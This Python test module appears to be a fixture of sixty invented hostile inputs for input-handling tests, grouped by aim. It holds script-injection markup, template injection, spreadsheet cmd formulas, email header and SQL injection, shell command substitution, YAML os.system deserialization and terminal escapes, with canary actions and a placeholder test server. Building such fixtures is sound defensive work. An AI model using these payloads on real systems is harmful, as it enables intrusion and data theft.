"""Sixty texts that try to run, fetch, attach, forge or break something, by what they try, the plainest of each first;
all invented for these tests.

`{there}` stands for the address of a server of the tests that must never be asked, `{file}` for a file that must never
appear.
"""

from __future__ import annotations

from collections.abc import Iterator

BY_AIM: dict[str, tuple[str, ...]] = {
    "markup": (
        "<script>fetch('{there}')</script>",
        "<img src={there} onerror=alert(1)>",
        "<svg onload=alert(1)><image href='{there}'/></svg>",
        "<iframe src='{there}'></iframe>",
        "<meta http-equiv=refresh content='0;url={there}'>",
        "<base href='file:///etc/'><img src=passwd>",
        "<link rel=stylesheet href='{there}'>",
        "<link rel=attachment href='file:///etc/hostname'>",
        "<a rel=attachment href='file:///etc/hostname'>x</a>",
        "<object data='{there}'></object><embed src='{there}'>",
        "</style><style>@import '{there}';*{background:url({there})}</style>",
        "</title></head><body onload=alert(1)>",
        "<!-- ]]> --!><!ENTITY x SYSTEM 'file:///etc/hostname'>",
        '" onmouseover="alert(1)" style="background:url({there})',
        "' autofocus onfocus='alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<table><td colspan=1000000>" + "<div>" * 40,
    ),
    "address": (
        "javascript:alert(1)",
        "java\tscript:alert(1)//https://example.org/",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "{there}",
        "https://example.org/\r\nX-Forged: yes",
        'https://user:word@example.org/" onclick="alert(1)',
    ),
    "template": (
        "{{ 7*191 }}{% include '/etc/hostname' %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${7*191} #{7*191} <%= 7*191 %> {0.__class__} %(x)s %s%n",
        "$\\frac{1}{0}$ costs $5 and _$7_ \\input{/etc/hostname}",
        "[/b][link=file:///etc/hostname]x[/link]",
    ),
    "formula": (
        '=HYPERLINK("{there}","x")',
        "=cmd|'/C touch {file}'!A1",
        "+1+cmd|'/C touch {file}'!A1",
        "-2+3+cmd|'/C touch {file}'!A1",
        '@SUM(1)*WEBSERVICE("{there}")',
        "\t=1+1",
        "\r=1+1",
        '";=1+1,"\n=1+1',
        "\uff1d1+1",
    ),
    "mail": (
        "Calm\u2028Bcc: everyone@example.org\x85Cc: all@example.org",
        "Calm\r\nBcc: everyone@example.org\r\n\r\n<b>x",
        "=?utf-8?q?Calm=0ABcc:_everyone@example.org?=",
        "\r\n.\r\nMAIL FROM:<x@example.org>",
        '\n--=_0\nContent-Disposition: attachment; filename="a.exe"\n\nTVqQ',
    ),
    "terminal": (
        "\x9b2J\x9b31m\x9d0;forged\x9c",
        "\x1b]0;forged\x07\x1b[2J\x1b[31mred",
        "\x1b]8;;{there}\x1b\\x\x1b]8;;\x1b\\\x08\x08",
        "\n2026-01-01 error: forged line\nnote: forged",
    ),
    "letters": (
        "calm \u202egnp.exe\u202c \u2066x\u2069 \U000e0041",
        "\x00\ufeff\ud800\ufffe\u0000",
        "W" * 300,
        "Z\u0336\u0300\u0301" * 30 + "\u4e2d\U0001f525",
        "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    ),
    "command": (
        "../../../../{file}",
        "$(touch {file}) `touch {file}` ; touch {file} | touch {file}",
        "'; DROP TABLE articles; --",
        "@pd.io.common.os.system('touch {file}')",
        "!!python/object/apply:os.system ['touch {file}']",
        ") /S /JavaScript /JS (app.alert\\(1\\)) >> endobj /Launch",
    ),
}


def payloads(there: str, file: str) -> Iterator[tuple[str, str]]:
    """Each text with its aim, the server and the file named in it."""
    for aim, texts in BY_AIM.items():
        for text in texts:
            yield aim, text.replace("{there}", there).replace("{file}", file)
